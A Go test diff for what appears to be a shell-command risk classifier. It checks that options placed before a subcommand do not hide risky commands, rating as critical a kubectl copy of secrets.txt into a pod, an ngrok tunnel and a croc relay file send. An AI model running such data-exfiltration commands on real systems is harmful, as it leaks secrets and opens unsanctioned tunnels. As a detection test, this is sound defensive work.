@@ -50,3 +50,20 @@ func TestRelays(t *testing.T) {
 		}
 	}
 }
+
+// TestRelaySubcommandAfterOptions: an option's value before the subcommand does not hide it
+// (the review).
+func TestRelaySubcommandAfterOptions(t *testing.T) {
+	c := newTest(t, settings.Defaults())
+	for cmd, want := range map[string]risk.Level{
+		"kubectl -n prod cp secrets.txt mypod:/tmp/": risk.Critical,
+		"ngrok --config n.yml http 8080":             risk.Critical,
+		"croc --relay r.example.com send notes.txt":  risk.Critical,
+		"kubectl -n prod cp mypod:/tmp/x ./x":        risk.Medium,
+		"kubectl -n prod get pods":                   risk.Medium,
+	} {
+		if got := c.Classify(bash(cmd)); got.Risk != want {
+			t.Errorf("%s: risk %s, want %s (%v)", cmd, got.Risk, want, got.Reasons)
+		}
+	}
+}
